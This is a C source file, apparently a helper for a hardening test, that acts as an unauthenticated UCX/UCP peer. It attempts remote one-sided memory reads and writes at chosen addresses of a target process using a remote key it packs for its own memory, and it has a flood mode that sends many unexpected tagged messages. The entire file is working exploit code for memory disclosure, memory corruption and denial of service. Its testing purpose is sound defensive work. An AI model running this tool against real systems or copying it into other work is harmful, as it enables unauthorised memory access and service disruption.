/* A UCP peer that never authenticates and tries one-sided get and put at an
 * address of the process behind a UCX listener (tests/hardening/test_ucx_door.py).
 * HOST "@HEX" (PORT then unused) names the target by its UCP worker address
 * (hex) instead: the daemon has no listener, but its tcp transport's port
 * takes whoever dials it with an address.
 *
 *   ucp_rma_peer HOST PORT ADDR LEN get          prints "get ok HEX" or "get failed WHY"
 *   ucp_rma_peer HOST PORT ADDR LEN put BYTE     prints "put ok" or "put failed WHY"
 *   ucp_rma_peer HOST PORT COUNT LEN flood       sends COUNT tagged messages of LEN
 *                                                bytes nobody expects; prints "flood N"
 *
 * The remote key is one this peer packs for its own memory: over tcp UCP
 * carries no remote key material, so that is all an attacker needs when the
 * target's context has RMA on.  Every wait is bounded (5 s). */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <ucp/api/ucp.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int done = 0;
static ucs_status_t result = UCS_INPROGRESS;
static void on_done(void *req, ucs_status_t status, void *user) {
    (void)req; (void)user;
    result = status;
    done = 1;
}

int main(int argc, char **argv) {
    if (argc < 6) { fprintf(stderr, "usage\n"); return 2; }
    const char *host = argv[1];
    int port = atoi(argv[2]);
    uint64_t addr = strtoull(argv[3], NULL, 0);
    size_t len = strtoull(argv[4], NULL, 0);
    int put = strcmp(argv[5], "put") == 0;
    int fill = argc > 6 ? (int)strtol(argv[6], NULL, 0) : 0x41;

    ucp_params_t params = {0};
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features = UCP_FEATURE_RMA | UCP_FEATURE_TAG | UCP_FEATURE_STREAM;
    ucp_context_h ctx;
    if (ucp_init(&params, NULL, &ctx) != UCS_OK) { printf("%s failed init\n", argv[5]); return 0; }
    ucp_worker_params_t wp = {0};
    wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
    wp.thread_mode = UCS_THREAD_MODE_SINGLE;
    ucp_worker_h worker;
    if (ucp_worker_create(ctx, &wp, &worker) != UCS_OK) { printf("%s failed worker\n", argv[5]); return 0; }

    struct sockaddr_in sa = {0};
    ucp_ep_params_t ep_params = {0};
    unsigned char *waddr = NULL;
    if (host[0] == '@') {
        size_t n = strlen(host + 1) / 2;
        waddr = malloc(n);
        for (size_t i = 0; i < n; i++) sscanf(host + 1 + 2 * i, "%2hhx", &waddr[i]);
        ep_params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS |
                               UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE;
        ep_params.address = (const ucp_address_t *)waddr;
    } else {
        sa.sin_family = AF_INET;
        sa.sin_port = htons(port);
        inet_pton(AF_INET, host, &sa.sin_addr);
        ep_params.field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR |
                               UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE;
        ep_params.flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER;
        ep_params.sockaddr.addr = (struct sockaddr *)&sa;
        ep_params.sockaddr.addrlen = sizeof(sa);
    }
    ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
    ucp_ep_h ep;
    if (ucp_ep_create(worker, &ep_params, &ep) != UCS_OK) { printf("%s failed connect\n", argv[5]); return 0; }

    if (strcmp(argv[5], "flood") == 0) {
        char *payload = calloc(1, len);
        size_t sent = 0;
        double stop = now() + 30.0;
        ucp_request_param_t sp = {0};
        for (uint64_t i = 0; i < addr && now() < stop; i++) {
            void *r = ucp_tag_send_nbx(ep, payload, len, 0xdead000000000000ull + i, &sp);
            if (UCS_PTR_IS_ERR(r)) break;
            while (r != NULL && ucp_request_check_status(r) == UCS_INPROGRESS && now() < stop)
                ucp_worker_progress(worker);
            if (r != NULL) ucp_request_free(r);
            sent++;
        }
        double until = now() + 1.0;
        while (now() < until) ucp_worker_progress(worker);
        printf("flood %zu\n", sent);
        fflush(stdout);
        _exit(0);
    }

    char *local = malloc(len);
    memset(local, put ? fill : 0, len);
    ucp_mem_map_params_t mp = {0};
    mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
    mp.address = local;
    mp.length = len;
    ucp_mem_h memh;
    void *packed; size_t packed_size;
    ucp_rkey_h rkey;
    if (ucp_mem_map(ctx, &mp, &memh) != UCS_OK ||
        ucp_rkey_pack(ctx, memh, &packed, &packed_size) != UCS_OK) {
        printf("%s failed rkey\n", argv[5]); return 0;
    }
    ucs_status_t st = ucp_ep_rkey_unpack(ep, packed, &rkey);
    if (st != UCS_OK) { printf("%s failed rkey-unpack %s\n", argv[5], ucs_status_string(st)); return 0; }

    ucp_request_param_t rp = {0};
    rp.op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK;
    rp.cb.send = on_done;
    void *req = put ? ucp_put_nbx(ep, local, len, addr, rkey, &rp)
                    : ucp_get_nbx(ep, local, len, addr, rkey, &rp);
    if (req == NULL) { done = 1; result = UCS_OK; }
    else if (UCS_PTR_IS_ERR(req)) { done = 1; result = UCS_PTR_STATUS(req); }
    /* A put completes locally once sent: flush to know it reached the peer. */
    double until = now() + 5.0;
    while (!done && now() < until) ucp_worker_progress(worker);
    if (done && result == UCS_OK && put) {
        done = 0; result = UCS_INPROGRESS;
        void *f = ucp_ep_flush_nbx(ep, &rp);
        if (f == NULL) { done = 1; result = UCS_OK; }
        else if (UCS_PTR_IS_ERR(f)) { done = 1; result = UCS_PTR_STATUS(f); }
        while (!done && now() < until) ucp_worker_progress(worker);
    }
    if (!done) { printf("%s failed timeout\n", argv[5]); fflush(stdout); _exit(0); }
    if (result != UCS_OK) { printf("%s failed %s\n", argv[5], ucs_status_string(result)); fflush(stdout); _exit(0); }
    if (put) { printf("put ok\n"); }
    else {
        printf("get ok ");
        for (size_t i = 0; i < len; i++) printf("%02x", (unsigned char)local[i]);
        printf("\n");
    }
    fflush(stdout);
    _exit(0);  /* no orderly teardown: an attacker does not say goodbye */
}
